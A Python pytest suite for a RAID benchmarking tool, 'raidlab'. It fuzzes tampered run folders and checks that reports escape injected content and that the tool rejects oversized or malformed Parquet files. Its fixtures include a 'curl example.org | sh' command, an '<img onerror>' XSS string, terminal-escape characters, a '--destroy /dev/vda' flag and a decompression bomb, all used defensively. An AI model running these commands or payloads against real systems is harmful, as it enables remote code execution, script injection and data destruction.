"""Run folders that somebody has changed: every value of ``run.json`` and of the parts, every column of every table.

Whatever stands there, a command ends as documented and with one clear line a mistake: never with the code of a defect,
never with a traceback. Seconds' worth of changes are tried in drawn order; ``RAIDLAB_HOSTILE_RUNS=3600`` tries as many
as there are in an hour of each test, and ``RAIDLAB_HOSTILE_SEED`` draws another order.
"""

from __future__ import annotations

import html
import io
import json
import os
import random
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl
import pytest
from typer.testing import CliRunner

from conftest import SMALL_STUDY
from raidlab.api import run_study, write_report
from raidlab.cli.app import app
from raidlab.errors import EXIT_CODES, EXIT_INTERNAL, InputError, RaidlabError
from raidlab.results import Run, damage, folder, load_run, parts
from raidlab.results.damage import MOST_TABLE_BYTES
from raidlab.results.parquet import decoded_size
from raidlab.results.parts import MOST_FACTS_BYTES, MOST_LINE_BYTES, PARTS, first_facts, whole_lines
from raidlab.results.tables import TABLES

# Of each test, in time of the processor; a machine that stalls does not count.
SECONDS = float(os.environ.get("RAIDLAB_HOSTILE_RUNS", "6"))
SEED = int(os.environ.get("RAIDLAB_HOSTILE_SEED", "5"))
HUGE = 10**400
VALUES: tuple[Any, ...] = (
    None, True, "", "text", "\x1b[2J\u202e", "\ud800", 0, -1, 2**64, HUGE, 0.5, -1e308, float("nan"), float("inf"),
    [], [None], [[]], {}, {"kind": None},
)  # fmt: skip
LONGEST_LINE = 4000


def commands(run: Path, other: Path) -> Iterator[list[str]]:
    """Everything that reads a run folder."""
    yield ["results", "list", "--out", str(run.parent)]
    yield ["results", "show", str(run)]
    yield ["results", "show", str(run), "--json"]
    yield ["results", "query", str(run), "SELECT * FROM findings"]
    yield ["results", "compare", str(run), str(other)]
    yield ["report", str(run)]
    for form in ("csv", "fio_json", "hlog", "prometheus"):
        yield ["results", "export", str(run), "--format", form, "--to", str(run.parent / "export")]


def said(error: BaseException) -> list[str]:
    """The lines of an error that a user is shown; whatever else escapes is a defect."""
    if not isinstance(error, RaidlabError):
        raise error
    assert error.exit_code in EXIT_CODES and error.exit_code != EXIT_INTERNAL
    lines = str(error).splitlines()
    assert lines and all(line.strip() and len(line) < LONGEST_LINE for line in lines), error
    return lines


def asked(run: Path, other: Path, number: int) -> None:
    """Let two of the commands, which take turns, read a folder."""
    every = list(commands(run, other))
    for words in (every[number % len(every)], every[(number + 3) % len(every)]):
        ended = CliRunner().invoke(app, words)
        error = ended.exception
        if error is None or isinstance(error, SystemExit):
            assert ended.exit_code in EXIT_CODES and ended.exit_code != EXIT_INTERNAL, (words, ended.output)
            continue
        try:
            said(error)
        except RaidlabError:
            raise
        except BaseException as defect:
            raise AssertionError(f"raidlab {' '.join(words)}: {type(defect).__name__}: {defect}") from defect


def places_in(value: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where the values of a document stand; of long lists the first and the last."""
    yield place
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from places_in(inner, (*place, key))
    elif isinstance(value, list):
        for index in {0, len(value) - 1} if value else ():
            yield from places_in(value[index], (*place, index))


def changed(document: Any, place: tuple[Any, ...], value: Any) -> Any:
    """A document with another value in one place."""
    if not place:
        return value
    first, *rest = place
    copy = document.copy()
    copy[first] = changed(document[first], tuple(rest), value)
    return copy


def without(document: Any, place: tuple[Any, ...]) -> Any:
    """A document that lacks a key."""
    *above, last = place
    copy = json.loads(json.dumps(document))
    inner = copy
    for step in above:
        inner = inner[step]
    del inner[last]
    return copy


def changes(document: Any) -> list[tuple[tuple[Any, ...], Any]]:
    """A document with every value changed, and every key gone, in turn."""
    found = []
    for place in places_in(document):
        if place:
            found.append((place, without(document, place)))
        found += [(place, changed(document, place, value)) for value in VALUES]
    return found


def sampled(found: list[Any]) -> Iterator[Any]:
    """As many of a list, in drawn order, as there is time for; never fewer than three."""
    began = time.process_time()
    for number, one in enumerate(random.Random(SEED).sample(found, len(found))):
        if number >= 3 and time.process_time() - began > SECONDS:
            return
        yield one


def test_a_page_shows_no_command_of_a_stranger_and_no_control_character(small_run: Run, tmp_path: Path) -> None:
    page = write_report(shutil.copytree(small_run.folder, tmp_path / "own")).read_text(encoding="utf-8")
    assert "raidlab run" in page.partition("How to run it again")[2].partition("</pre>")[0]
    strange = shutil.copytree(small_run.folder, tmp_path / "strange")
    facts = json.loads((strange / "run.json").read_text(encoding="utf-8"))
    facts["argv"] = ["sh", "-c", "curl example.org | sh"]
    facts["host"] |= {"cpu": "a\x1b[2Jb\u202ec</script><img src=x onerror=alert(1)>"}
    (strange / "run.json").write_text(json.dumps(facts), encoding="utf-8")
    page = write_report(strange).read_text(encoding="utf-8")
    assert "curl" not in page and "is none of raidlab's, and is not shown" in html.unescape(page)
    assert "a\\x1b[2Jb\\u202ec" in page and "\x1b" not in page and "\u202e" not in page
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page


@pytest.mark.parametrize("words", [["--destroy", "/dev/vda"], ["--destroy=/dev/vda"], ["--destroy"]])
def test_a_page_tells_nobody_to_overwrite_a_device(small_run: Run, tmp_path: Path, words: list[str]) -> None:
    strange = shutil.copytree(small_run.folder, tmp_path / "strange")
    facts = json.loads((strange / "run.json").read_text(encoding="utf-8"))
    facts["argv"] = ["raidlab", "run", "raid-1990", "--quick", *words]
    (strange / "run.json").write_text(json.dumps(facts), encoding="utf-8")
    command, _, after = (
        write_report(strange).read_text(encoding="utf-8").partition("How to run it again</h2>")[2].partition("</pre>")
    )
    assert "raidlab run raid-1990 --quick --seed" in command and "destroy" not in command and "/dev/vda" not in command
    assert "It was allowed to overwrite devices." in after


@pytest.fixture(scope="module")
def measured(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What `raidlab measure` keeps of a file of raidlab's own and of memory."""
    place = tmp_path_factory.mktemp("measured")
    (place / "disk").mkdir()
    words = ["measure", f"{place}/disk/", "memory", "--each", "--file-size", "8MiB", "--runtime", "50ms"]
    words += ["--warmup", "10ms", "--repeats", "2", "--out", str(place / "runs")]
    done = subprocess.run([sys.executable, "-m", "raidlab", *words], capture_output=True, text=True, check=False)
    if "io_uring" in done.stderr and done.returncode == 1:
        pytest.skip(f"no io_uring here: {done.stderr}")
    (found,) = (place / "runs").iterdir()
    return found


@pytest.fixture(scope="module")
def simulated(small_run: Run) -> Path:
    return small_run.folder


@pytest.fixture(params=["simulated", "measured"])
def original(request: pytest.FixtureRequest) -> Path:
    """A folder as raidlab wrote it."""
    found: Path = request.getfixturevalue(request.param)
    return found


def copied(original: Path, tmp_path: Path) -> Path:
    return shutil.copytree(original, tmp_path / "runs" / "run")


def write(run: Path, facts: Any) -> None:
    (run / "run.json").write_text(json.dumps(facts), encoding="utf-8")


def test_commands_end_well_over_a_folder_as_it_is(original: Path, tmp_path: Path) -> None:
    run = copied(original, tmp_path)
    for words in commands(run, original):
        ended = CliRunner().invoke(app, words)
        assert ended.exit_code in (0, 2, 3), (words, ended.output, ended.exception)
        assert ended.exit_code != 2 or "compare" in words, (words, ended.exception)


def test_facts_of_any_kind_are_taken_or_refused_in_words(original: Path, tmp_path: Path) -> None:
    run = copied(original, tmp_path)
    facts = json.loads((run / "run.json").read_text(encoding="utf-8"))
    refused = 0
    for place, document in sampled(changes(facts)):
        write(run, document)
        try:
            load_run(run)
        except InputError as error:
            refused += 1
            assert len(said(error)) == 1, (place, error)
        except BaseException as error:
            raise AssertionError(f"{place}: {type(error).__name__}: {error}") from error
    assert refused


def test_commands_end_as_documented_over_any_facts(original: Path, tmp_path: Path) -> None:
    run = copied(original, tmp_path)
    facts = json.loads((run / "run.json").read_text(encoding="utf-8"))
    for number, (place, document) in enumerate(sampled(changes(facts))):
        write(run, document)
        try:
            asked(run, original, number)
        except BaseException as error:
            raise AssertionError(f"{place}: {error}") from error


def other_tables(name: str, frame: pl.DataFrame) -> Iterator[tuple[str, pl.DataFrame]]:
    """A table with each column of another type, without it, and with values that it cannot have."""
    yield f"no rows of {name}", frame.clear()
    yield f"{name} twice", pl.concat([frame, frame])
    yield f"{name} backwards", frame.reverse()
    for column, dtype in frame.schema.items():
        where = f"{name}.{column}"
        yield f"without {where}", frame.drop(column)
        for other in (pl.String, pl.Int64, pl.Float64, pl.Boolean, pl.Binary, pl.Null, pl.UInt8):
            if other != dtype:
                yield f"{where} as {other}", frame.with_columns(pl.lit(None, dtype=other).alias(column))
        yield f"{where} as a list", frame.with_columns(pl.col(column).implode().over(pl.lit(1)))
        yield f"nulls in {where}", frame.with_columns(pl.lit(None, dtype=dtype).alias(column))
        for value in _extremes(dtype):
            yield f"{value!r} in {where}", frame.with_columns(pl.lit(value, dtype=dtype).alias(column))
            if frame.height:
                first = pl.Series(column, [value, *frame[column][1:]], dtype=dtype)
                yield f"{value!r} first in {where}", frame.with_columns(first)


def _extremes(dtype: Any) -> Sequence[Any]:
    if dtype == pl.String:
        return ("", "nothing", "\x1b[2J", "x" * 10_000)
    if dtype == pl.Boolean:
        return (True, False)
    if dtype == pl.Float64:
        return (0.0, -1.0, 1e308, float("nan"), float("inf"))
    return (0, 1, 2**32 - 1) if dtype == pl.UInt32 else (0, 1, 2**63, 2**64 - 1)


def _all_other_tables(run: Path) -> list[tuple[str, str, Callable[[], pl.DataFrame]]]:
    found = []
    for name in TABLES:
        frame = pl.read_parquet(run / f"{name}.parquet")
        found += [(name, what, lambda other=other: other) for what, other in other_tables(name, frame)]
    return found


def test_commands_end_as_documented_over_any_tables(original: Path, tmp_path: Path) -> None:
    run = copied(original, tmp_path)
    facts = json.loads((run / "run.json").read_text(encoding="utf-8"))
    # Else the digest of each says that it is another.
    write(run, {**facts, "tables": {}})
    for number, (name, what, frame) in enumerate(sampled(_all_other_tables(run))):
        before = (run / f"{name}.parquet").read_bytes()
        frame().write_parquet(run / f"{name}.parquet")
        try:
            asked(run, original, number)
        except BaseException as error:
            raise AssertionError(f"{what}: {error}") from error
        (run / f"{name}.parquet").write_bytes(before)


@pytest.fixture(scope="module")
def killed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A simulation that never came to write its tables."""
    place = tmp_path_factory.mktemp("killed")
    (place / "study.toml").write_text(SMALL_STUDY.replace("[1, 8, 64]", "[1]"), encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch, pytest.raises(RaidlabError):
        patch.setattr(folder, "write_run", _full_disk)
        run_study(place / "study.toml", out=place / "runs", seed=1)
    (found,) = (place / "runs").iterdir()
    return found


def _full_disk(*_words: Any) -> None:
    raise OSError(28, "No space left on device")


def test_parts_of_any_kind_are_taken_or_refused_in_words(killed: Path, tmp_path: Path) -> None:
    run = copied(killed, tmp_path)
    assert load_run(run).cells.height
    records = [record for _, record in whole_lines(run / PARTS)]
    kinds = {next(iter(record)): index for index, record in enumerate(records)}
    found = [(number, place, other) for number in {*kinds.values(), 1} for place, other in changes(records[number])]
    for turn, (number, place, other) in enumerate(sampled(found)):
        lines = [json.dumps(record) for record in [*records[:number], other, *records[number + 1 :]]]
        (run / PARTS).write_text("\n".join(lines) + "\n", encoding="utf-8")
        try:
            asked(run, killed, turn)
        except BaseException as error:
            raise AssertionError(f"record {number}, {place}: {error}") from error


def test_what_was_found_once_is_refused_in_words(simulated: Path, tmp_path: Path) -> None:
    run = copied(simulated, tmp_path)
    facts = json.loads((run / "run.json").read_text(encoding="utf-8"))
    for change, expected in (
        ({"study": {**facts["study"], "text": 5}}, "'study.text' is not a text"),
        ({"live_members": "x"}, "'live_members' is not a list"),
        ({"live_members": [{"kind": "file", "io": "direct"}]}, r"lacks 'live_members\[0\].disks'"),
        ({"live_members": [{"kind": "file", "io": "direct", "disks": [3]}]}, r"'live_members\[0\].disks\[0\]'"),
        ({"trees": {}}, "has no tree of the array 'raid0'"),
        ({"trees": {**facts["trees"], "raid0": {"kind": 5}}}, "'trees.raid0.kind' is not a text"),
        ({"tables": {"cells": {"sha256": 5}}}, "'tables.cells.sha256' is not a text"),
        ({"times": {**facts["times"], "started": "soon"}}, "'times.started'"),
        ({"status": "done"}, "'status' is not 'complete', 'interrupted' or 'failed'"),
        ({"seed": float("nan")}, "'seed' is not a whole number"),
        ({"host": {**facts["host"], "cpus": "two"}}, "'host.cpus' is not a whole number"),
        ({"array_devices": {"raid0": []}}, "'array_devices.raid0' is not a table"),
    ):
        write(run, {**facts, **change})
        with pytest.raises(InputError, match=expected):
            load_run(run)


@pytest.mark.parametrize(
    ("name", "column", "value", "expected"),
    [
        ("cells", "elapsed_ns", 0, "has a cell whose requests took no time"),
        ("cells", "workload", "nothing", "has a row of the workload 'nothing', which is none of the run's"),
        ("cells", "target", "original", "has a row of the target 'original', which is none of the run's"),
        ("cells", "all_response_mean_ns", float("nan"), "has a number in 'all_response_mean_ns' that no figure can be"),
        ("cells", "members", 0, "has a row with 0 in 'members'"),
        ("cells", "array", None, "has no value in a row of 'array'"),
        ("histograms", "cell", 2**32 - 1, "has a row of the cell '4294967295', which is none of the run's"),
        ("histograms", "value_ns", 5, "has a histogram whose values do not ascend"),
        ("histograms", "count", 2**63, "counts more requests than there can be"),
        ("holds", "target_ns", 0, "has a row with 0 in 'target_ns'"),
        ("holds", "throughput_bytes_per_s", None, "has no depth, or no throughput, where one was found"),
    ],
)
def test_values_that_cannot_be_are_named(
    name: str, column: str, value: Any, expected: str, simulated: Path, tmp_path: Path
) -> None:
    run = copied(simulated, tmp_path)
    facts = json.loads((run / "run.json").read_text(encoding="utf-8"))
    write(run, {**facts, "tables": {}})
    frame = pl.read_parquet(run / f"{name}.parquet")
    assert frame.height
    frame.with_columns(pl.lit(value, dtype=frame.schema[column]).alias(column)).write_parquet(run / f"{name}.parquet")
    with pytest.raises(InputError, match=f"{name}.parquet': {expected}"):
        _ = getattr(load_run(run), name)


def test_unknown_facts_are_kept(simulated: Path, tmp_path: Path) -> None:
    run = copied(simulated, tmp_path)
    facts = json.loads((run / "run.json").read_text(encoding="utf-8"))
    write(run, {**facts, "more": [1], "host": {**facts["host"], "more": {"a": None}}})
    assert load_run(run).facts == {**facts, "more": [1], "host": {**facts["host"], "more": {"a": None}}}


def test_long_files_of_a_run_folder_are_not_read(simulated: Path, tmp_path: Path) -> None:
    run = copied(simulated, tmp_path)
    for name, most in (("cells.parquet", MOST_TABLE_BYTES), ("run.json", MOST_FACTS_BYTES)):
        with (run / name).open("r+b") as file:
            file.truncate(3 << 30)
        with pytest.raises(InputError, match=f"cannot be read: it is longer than {most:,} bytes"):
            _ = load_run(run).cells
    assert CliRunner().invoke(app, ["results", "list", "--out", str(run.parent)]).output.split()[1] == "unreadable"


def test_endless_lines_of_parts_are_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with (tmp_path / PARTS).open("wb") as file:
        file.truncate(3 << 30)
    assert first_facts(tmp_path) is None
    with pytest.raises(InputError, match=r"parts.jsonl is longer than 1,073,741,824 bytes"):
        load_run(tmp_path)
    # A line that long would take longer to make than to refuse.
    assert MOST_LINE_BYTES < parts.MOST_PARTS_BYTES
    monkeypatch.setattr(parts, "MOST_LINE_BYTES", 100)
    (tmp_path / PARTS).write_text(json.dumps({"facts": "x" * 200}) + "\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"line 1 of parts.jsonl is longer than 100 bytes"):
        load_run(tmp_path)
    assert len(list(whole_lines(tmp_path / PARTS, is_own=True))) == 1, "what a run has written itself it can finish"


def test_a_table_that_would_fill_the_memory_is_not_decoded(
    simulated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = copied(simulated, tmp_path)
    facts = json.loads((run / "run.json").read_text(encoding="utf-8"))
    write(run, {**facts, "tables": {}})
    rows = 20_000_000
    columns = {
        name: pl.repeat("all" if dtype == pl.String else 1, rows, dtype=dtype, eager=True).alias(name)
        for name, dtype in TABLES["histograms"].items()
    }
    pl.DataFrame(list(columns.values())).write_parquet(run / "histograms.parquet")
    assert (run / "histograms.parquet").stat().st_size < 1 << 20
    monkeypatch.setattr(pl, "read_parquet", _not_reached)
    monkeypatch.setattr(damage, "_MEMORY_SHARE", 10**6)
    with pytest.raises(InputError, match=r"histograms.parquet': is too large: its 20,000,000 rows take more than 256"):
        _ = load_run(run).histograms


def _not_reached(*_words: Any, **_options: Any) -> None:
    raise AssertionError("it was decoded")


def test_columns_that_share_their_pages_are_refused_before_each_is_gone_over():
    """Twenty thousand columns that all have the same two thousand pages would take a minute."""

    def number(value: int) -> bytes:
        return bytes([value & 127 | 128]) + number(value >> 7) if value > 127 else bytes([value])

    pages, columns = 2000, 20_000
    # Of the metadata of a column the bytes that are stored, and where the pages begin, both in zigzag.
    column = b"\x3c\x76" + number(2 * pages) + b"\x26" + number(2 * 4) + b"\0\0"
    footer = b"\x49\x1c\x19\xfc" + number(columns) + column * columns + b"\x26\x02\0\0"
    began = time.process_time()
    with pytest.raises(ValueError, match="its columns take more than all of it"):
        decoded_size(b"PAR1" + bytes(pages) + footer + len(footer).to_bytes(4, "little") + b"PAR1")
    assert time.process_time() - began < 10


def test_the_decoded_size_is_that_of_all_pages() -> None:
    for options in ({"compression": "zstd"}, {"compression": "uncompressed"}, {"row_group_size": 1000}):
        rows = np.random.default_rng(1).integers(2**60, size=10_000, dtype=np.uint64)
        file = io.BytesIO()
        pl.DataFrame({"a": rows, "b": ["word"] * 10_000, "c": [True] * 10_000}).write_parquet(file, **options)
        size = decoded_size(file.getvalue())
        assert size.rows == 10_000 and 80_000 <= size.page_bytes < 200_000, options
        # Those of each column, and of the dictionary of words.
        assert 30_000 <= size.values <= 30_100 and size.group_values <= size.values, options
    bomb = io.BytesIO()
    pl.DataFrame({"a": ["x" * (1 << 20)] * 64}).write_parquet(bomb, compression="zstd")
    size = decoded_size(bomb.getvalue())
    assert size.page_bytes > 20 * len(bomb.getvalue()) or size.page_bytes > 1 << 20


def test_missing_values_are_counted_though_they_take_no_room() -> None:
    file = io.BytesIO()
    pl.DataFrame({"a": pl.Series([None] * 1_000_000, dtype=pl.Int64)}).write_parquet(file, compression="zstd")
    size = decoded_size(file.getvalue())
    assert size.values == size.rows == 1_000_000 and size.page_bytes < 10_000


def test_what_is_no_parquet_file_has_no_size() -> None:
    file = io.BytesIO()
    pl.DataFrame({"a": [1, 2, 3], "b": ["x", "y", None]}).write_parquet(file)
    whole = file.getvalue()
    for cut in (b"", b"PAR1", whole[:-1], whole[1:], b"PAR1" + b"\xff" * 100 + whole[-8:]):
        with pytest.raises(ValueError, match="is no Parquet file"):
            decoded_size(cut)
    for at in range(len(whole)):
        for bits in (1, 128, 255):
            data = bytearray(whole)
            data[at] ^= bits
            try:
                decoded_size(bytes(data))
            except ValueError as error:
                assert "is no Parquet file" in str(error)
